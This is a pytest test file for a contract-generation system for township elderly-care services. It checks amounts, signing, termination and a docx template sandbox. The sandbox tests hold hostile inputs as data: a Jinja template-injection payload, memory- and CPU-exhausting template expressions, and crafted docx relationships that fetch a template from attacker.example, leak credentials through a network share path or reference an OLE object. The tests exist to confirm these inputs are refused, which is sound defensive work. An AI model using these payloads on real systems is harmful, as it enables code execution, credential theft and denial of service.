"""Zoned contracts: the generated documents, the sandbox, and the lifecycle."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import docx
import pytest
from docxtpl import DocxTemplate

from procurement.contracts import services, templating
from procurement.contracts.models import ContractStatus
from procurement.core.clock import today
from procurement.core.errors import Conflict, ValidationError
from procurement.demo.providers import _pdf, load_demo_awards
from procurement.plans.execution import execution
from procurement.public import services as publishing

ZONES = {
    "第一片区": ("凤城镇", "蟒河镇", "158,400.00", "壹拾伍万捌仟肆佰元整"),  # 33 x 4 x 200 x 6
    # 33.5 x 4 x 240 x 6
    "第二片区": ("北留镇", "白桑镇", "192,960.00", "壹拾玖万贰仟玖佰陆拾元整"),
    "第三片区": ("西河乡", "演礼镇", "126,720.00", "壹拾贰万陆仟柒佰贰拾元整"),  # 33 x 4 x 160 x 6
}


@pytest.fixture
def contracts(world):
    """The three draft contracts, their award notices published (so signing before the
    service starts needs no stated reason)."""
    load_demo_awards(world["officer"], world["plan"])
    found = services.contracts_of(world["plan"])
    for contract in found:
        publishing.publish_award(contract.award, actor=world["officer"])
    return found


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


def test_each_zone_document_has_its_townships_number_amounts_and_capitals(contracts):
    assert [c.number for c in contracts] == ["140522-2026-01", "140522-2026-02", "140522-2026-03"]
    for contract in contracts:
        first, last, amount, capitals = ZONES[contract.zone.name]
        text = text_of(services.document_bytes(contract))
        assert f"合同编号：{contract.number}" in text
        assert first in text and last in text
        assert f"合同总价人民币{amount}元" in text and f"大写：{capitals}" in text
        assert contract.provider.name in text and contract.provider.credit_code in text
        assert "服务期限内三次被服务对象投诉" in text  # seed 001 §8(2)1
        assert "以各种方式记录虚假服务" in text  # seed 001 §8(2)2
        assert "{{" not in text and "{%" not in text


def test_the_amount_cannot_exceed_the_zone_budget(world, contracts):
    contract = contracts[0]  # budget 168,000.00
    with pytest.raises(ValidationError) as refused:
        services.amend_contract(contract, reason="增加服务对象", recipients=250, actor=None)
    assert refused.value.code == "over_budget"
    version = services.amend_contract(
        contract, reason="服务对象调整为210人", recipients=210, actor=None
    )
    assert version.number == 2 and contract.amount == Decimal("166320.00")
    assert len(contract.versions) == 2 and contract.versions[0].amount == Decimal("158400.00")
    assert "166,320.00" in text_of(services.document_bytes(contract))
    assert "158,400.00" in text_of(services.document_bytes(contract, 1))
    with pytest.raises(ValidationError):
        services.amend_contract(contract, reason=" ", recipients=200, actor=None)


def test_signing_needs_the_scan_and_a_real_date_then_commits_the_amount(world, contracts):
    contract = contracts[0]
    with pytest.raises(ValidationError) as refused:
        services.sign_contract(
            contract, signed_on=today(), filename="", stream=io.BytesIO(b""), actor=None
        )
    assert "scan" in refused.value.fields
    with pytest.raises(ValidationError) as refused:
        services.sign_contract(
            contract,
            signed_on=date(2099, 1, 1),
            filename="s.pdf",
            stream=io.BytesIO(_pdf("signed")),
            actor=None,
        )
    assert "signed_on" in refused.value.fields
    assert contract.status is ContractStatus.DRAFT
    services.sign_contract(
        contract,
        signed_on=today(),
        filename="s.pdf",
        stream=io.BytesIO(_pdf("signed")),
        actor=None,
    )
    assert contract.status is ContractStatus.SIGNED
    rows = {row.label: row for row in execution(world["plan"], "片区外")}
    assert rows["第一片区"].committed == Decimal("158400.00")
    assert rows["第二片区"].committed == Decimal("0.00")  # still a draft


def test_termination_needs_a_ground_of_seed_001(world, contracts):
    contract = contracts[1]
    with pytest.raises(Conflict):  # a draft is not terminated, it is simply not signed
        services.terminate_contract(contract, reason="false_records", note="", on=today())
    services.sign_contract(
        contract,
        signed_on=today(),
        filename="s.pdf",
        stream=io.BytesIO(_pdf("signed")),
        actor=None,
    )
    services.start_contract(contract)
    with pytest.raises(ValidationError) as refused:
        services.terminate_contract(contract, reason="", note="", on="2026-09-01")
    assert "reason" in refused.value.fields
    services.terminate_contract(
        contract, reason="false_records", note="虚报服务记录120条", on="2026-09-01"
    )
    assert contract.status is ContractStatus.TERMINATED


def test_one_contract_per_zone(world, contracts):
    with pytest.raises(Conflict):
        services.generate_contract(contracts[0].zone, actor=None)


def test_all_contracts_of_a_plan_in_one_zip(world, contracts):
    archive = zipfile.ZipFile(services.plan_archive(world["plan"], contracts, with_pdf=False))
    names = archive.namelist()
    assert len(names) == 3 and all(n.endswith(".docx") for n in names)
    assert "第一片区" in names[0]


# ------------------------------------------------------------------ the sandbox


def template_with(text: str) -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "code"),
        ("{{ provider.name.__class__ }}", "code"),
        ("{{ provider.name }", "broken"),
        ("{{ secrets }}", "unknown"),
        ("{{ provider.favourite_colour }}", "filled"),
    ],
)
def test_dangerous_or_broken_templates_are_refused(ctx, text, fragment):
    messages = {
        "code": "不允许",
        "broken": "字段",
        "unknown": "secrets",
        "filled": "favourite_colour",
    }
    with pytest.raises(ValidationError) as refused:
        templating.check_template(template_with(text))
    assert messages[fragment] in refused.value.message


def with_relationship(data: bytes, part: str, relationship: str) -> bytes:
    """The document with one more relationship in ``part`` (a .rels file)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            content = source.read(name)
            if name == part:
                content = content.replace(
                    b"</Relationships>", relationship.encode() + b"</Relationships>"
                )
            target.writestr(name, content)
        if part not in names:
            target.writestr(
                part,
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f"{relationship}</Relationships>",
            )
    return out.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    ("part", "relationship", "shown"),
    [
        (  # Word fetches the attached template on opening
            "word/_rels/settings.xml.rels",
            f'<Relationship Id="rId9" Type="{REL}/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/>',
            "http://attacker.example/t.dotm",
        ),
        (  # an image on a share: the reader's Windows credentials go to the host
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rId99" Type="{REL}/image" '
            'Target="\\\\host\\share\\a.png" TargetMode="External"/>',
            "\\\\host\\share\\a.png",
        ),
        (  # a hyperlink in the header's part, even without TargetMode
            "word/_rels/header1.xml.rels",
            f'<Relationship Id="rId3" Type="{REL}/hyperlink" Target="https://x.example/"/>',
            "https://x.example/",
        ),
        (
            "_rels/.rels",
            f'<Relationship Id="rId7" Type="{REL}/oleObject" Target="file:///C:/x.bin" '
            'TargetMode="External"/>',
            "file:///C:/x.bin",
        ),
    ],
)
def test_templates_with_external_relationships_are_refused(ctx, part, relationship, shown):
    """An uploaded template may refer to nothing outside itself: such targets would reach
    every contract generated from it, the public one included."""
    crafted = with_relationship(template_with("{{ provider.name }}"), part, relationship)
    with pytest.raises(ValidationError) as refused:
        templating.check_template(crafted)
    assert "file" in refused.value.fields
    assert "文档以外" in refused.value.message and shown in refused.value.message


def test_the_default_template_uses_only_documented_fields(ctx):
    used = templating.check_template(templating.default_template_bytes())
    assert set(used) <= set(templating.FIELDS)


def test_markup_characters_in_data_cannot_corrupt_the_document(ctx):
    context = templating.sample_context()
    context["provider"]["name"] = '福寿<w:p>&"养老"</w:p>'
    rendered = templating.render(templating.default_template_bytes(), context)
    assert '福寿<w:p>&"养老"</w:p>' in text_of(rendered)
    DocxTemplate(io.BytesIO(rendered))  # still a well-formed document


def test_an_uploaded_template_version_is_used_for_new_contracts(world):
    template = services.upload_template(
        region_code="140522",
        name="县局修订版",
        filename="v2.docx",
        actor=None,
        stream=io.BytesIO(template_with("合同编号 {{ contract.number }} 乙方 {{ provider.name }}")),
    )
    assert template.version == 1 and template.fields == ["contract", "provider"]
    load_demo_awards(world["officer"], world["plan"])
    text = text_of(services.document_bytes(services.contracts_of(world["plan"])[0]))
    assert text.startswith("合同编号 140522-2026-01 乙方")


def test_generated_documents_open_in_libreoffice(world, contracts, monkeypatch):
    """Word and LibreOffice open the files without repair: LibreOffice converts them, in
    batches (here of two: the three contracts take two starts), each PDF beside its
    document."""
    if services.pdf_converter() is None:
        import os

        if os.environ.get("PROCUREMENT_REQUIRE_LIBREOFFICE"):
            pytest.fail("LibreOffice is required here but not installed")
        pytest.skip("LibreOffice is not installed")
    monkeypatch.setattr(services, "PDF_BATCH", 2)
    reported = []
    made = services.plan_archive(
        world["plan"], contracts, with_pdf=True, progress=lambda *step: reported.append(step)
    )
    archive = zipfile.ZipFile(made)
    names = sorted(archive.namelist())
    assert [n.rsplit(".", 1)[0] for n in names[::2]] == [n.rsplit(".", 1)[0] for n in names[1::2]]
    assert len(names) == 2 * len(contracts) == 6
    for name in names:
        assert archive.read(name).startswith(b"%PDF-" if name.endswith(".pdf") else b"PK\x03\x04")
    assert reported == [
        ("documents", 1, 3),
        ("documents", 2, 3),
        ("documents", 3, 3),
        ("pdf", 2, 3),
        ("pdf", 3, 3),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "{% if clauses.termination.clear() %}{% endif %}",
        "{{ clauses.sanctions.append('乙方可随时解除') }}",
        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
        "{{ provider.name * 300000000 }}",
        "{{ '%0999999999d' % 1 }}",
        "{{ '{:>999999999}'.format(1) }}",
        "{{ provider.name|center(999999999) }}",
        "{{ lipsum(1000) }}{{ cycler }}{{ namespace }}",
        "{{ 9 ** 99999999 }}",
    ],
)
def test_templates_cannot_change_shared_data_or_exhaust_the_server(ctx, text):
    with pytest.raises(ValidationError):
        templating.check_template(template_with(text))


def test_clause_lists_survive_any_render(ctx):
    from procurement.contracts.models import SANCTION_CLAUSES, TERMINATION_CLAUSES

    before = (list(SANCTION_CLAUSES), list(TERMINATION_CLAUSES))
    context = templating.sample_context()
    context["clauses"] = {"sanctions": SANCTION_CLAUSES, "termination": TERMINATION_CLAUSES}
    templating.render(templating.default_template_bytes(), context)
    assert before == (SANCTION_CLAUSES, TERMINATION_CLAUSES)


def test_amendments_and_dates_are_checked_before_anything_changes(world, contracts):
    contract = contracts[0]
    for values, field in (
        ({"amount": "-100"}, "amount"),
        ({"amount": "0"}, "amount"),
        ({"amount": "1.234"}, "amount"),
        ({"service_end": "2029-12-31"}, "service_end"),
        ({"township_codes": ["140522101"]}, "township_codes"),
    ):
        with pytest.raises(ValidationError) as refused:
            services.amend_contract(contract, reason="调整", actor=None, **values)
        assert field in refused.value.fields
        assert contract.amount == Decimal("158400.00") and len(contract.versions) == 1
    services.amend_contract(contract, reason="手工核定", amount="150000.00", actor=None)
    services.amend_contract(contract, reason="仅修改说明", actor=None)
    assert contract.amount == Decimal("150000.00")  # kept: the terms did not change
    with pytest.raises(ValidationError) as refused:
        services.sign_contract(
            contract,
            signed_on=date(2020, 1, 1),
            filename="s.pdf",
            stream=io.BytesIO(_pdf("signed")),
            actor=None,
        )
    assert "signed_on" in refused.value.fields


def test_a_terminated_contract_commits_the_months_it_ran(world, contracts):
    contract = contracts[0]
    services.sign_contract(
        contract, signed_on=today(), filename="s.pdf", stream=io.BytesIO(_pdf("signed")), actor=None
    )
    with pytest.raises(ValidationError):
        services.terminate_contract(contract, reason="other_serious", note="", on=today())
    with pytest.raises(ValidationError):
        services.terminate_contract(contract, reason="false_records", note="", on=date(2026, 1, 1))
    services.terminate_contract(
        contract, reason="false_records", note="虚报", on=date(2026, 12, 1)
    )  # ran July to December: 6 of 6 months
    assert services.committed_amount(contract) == Decimal("158400.00")
    contract.terminated_on = date(2026, 9, 15)  # July to September: 3 of 6 months
    assert services.committed_amount(contract) == Decimal("79200.00")


def test_a_second_plan_of_the_year_gets_its_own_contract_numbers(world, contracts):
    from procurement.contracts.services import _number

    number = _number(world["plan"], world["plan"].zones[0])
    assert number == "140522-2026-01"  # its own plan keeps the plain number


def test_an_awarded_zone_can_be_neither_removed_nor_renamed(world, contracts):
    from procurement.core import clock
    from procurement.plans import services as plans
    from tests.plans.conftest import plan_input

    plan = world["plan"]
    plans.adjust_plan(plan, lock_version=None)
    zones = plan_input().zones
    zones[0].name = "凤城片区"
    with pytest.raises(ValidationError) as refused:
        plans.update_plan(plan, plan_input(zones=zones, title=plan.title), lock_version=None)
    assert "第一片区" in refused.value.message
    assert clock.today().year == 2026


def _fake_libreoffice(monkeypatch, skip: str | None = None) -> list[list[str]]:
    """A converter that writes, for each .docx it is given, a "PDF" naming the document's
    digest (except the one named ``skip``, which it leaves out as LibreOffice does with a
    file it cannot open); returns the calls' file lists."""
    import hashlib
    from pathlib import Path

    calls: list[list[str]] = []

    def run(arguments, **_options):
        sources = [Path(a) for a in arguments if a.endswith(".docx")]
        calls.append([s.name for s in sources])
        for source in sources:
            if source.name != skip:
                digest = hashlib.sha256(source.read_bytes()).hexdigest()
                source.with_suffix(".pdf").write_bytes(b"%PDF-" + digest.encode())

    monkeypatch.setattr(services, "pdf_converter", lambda: "soffice")
    monkeypatch.setattr(services.subprocess, "run", run)
    monkeypatch.setattr(services, "PDF_BATCH", 2)
    return calls


def test_each_pdf_of_a_batch_lies_beside_its_own_document(world, contracts, monkeypatch):
    import hashlib

    calls = _fake_libreoffice(monkeypatch)
    archive = zipfile.ZipFile(services.plan_archive(world["plan"], contracts, with_pdf=True))
    assert calls == [["00000.docx", "00001.docx"], ["00002.docx"]]
    for contract in contracts:
        stem = f"{contract.number}-{contract.zone.name}"
        digest = hashlib.sha256(archive.read(f"{stem}.docx")).hexdigest()
        assert archive.read(f"{stem}.pdf") == b"%PDF-" + digest.encode()


def test_a_document_libreoffice_leaves_out_is_named(world, contracts, monkeypatch):
    _fake_libreoffice(monkeypatch, skip="00002.docx")
    with pytest.raises(ValidationError) as caught:
        services.plan_archive(world["plan"], contracts, with_pdf=True)
    assert caught.value.message == f"LibreOffice 未能将 {contracts[2].number} 转换为 PDF。"


YANGCHENG_SETTLEMENT = (
    "按月结算。乙方于次月5个工作日内提交上月服务记录（与晋城市智慧养老服务平台一致），"
    "甲方依据核定的服务对象、服务标准和单价审核后结算；超出每人每月服务标准、超过单价上限、"
    "服务对象不符合条件或不在本片区的服务不予结算；暂停结算期间的结算单暂缓支付。"
)


def test_a_yangcheng_contract_keeps_its_settlement_clause(contracts):
    text = text_of(services.document_bytes(contracts[0]))
    assert YANGCHENG_SETTLEMENT in text


def test_a_xinjiang_profile_contract_has_none_of_yangchengs_texts(world, contracts):
    import sqlalchemy as sa

    from procurement.contracts.models import SANCTION_CLAUSES, TERMINATION_CLAUSES
    from procurement.core.db import db
    from procurement.policies.models import PolicyProfile

    xinjiang = db.session.scalar(
        sa.select(PolicyProfile).where(PolicyProfile.region_code == "650000")
    )
    contract = contracts[0]
    contract.plan.policy_profile = xinjiang
    contract.plan.quality_standard = ""  # the demo plan's own text names the platform
    fields = services.context(contract, 1)
    assert "晋城市" not in fields["settlement"] and "次月5个工作日" not in fields["settlement"]
    assert "每人每年服务标准" in fields["settlement"]
    text = text_of(templating.render(templating.default_template_bytes(), fields))
    settlement = text[text.index("第五条") : text.index("第六条")]
    assert "晋城市" not in settlement and "次月5个工作日" not in text
    assert "结算周期由双方另行约定" in text
    for clause in [*SANCTION_CLAUSES, *TERMINATION_CLAUSES]:
        assert clause not in text
    assert "由双方另行约定。" in text
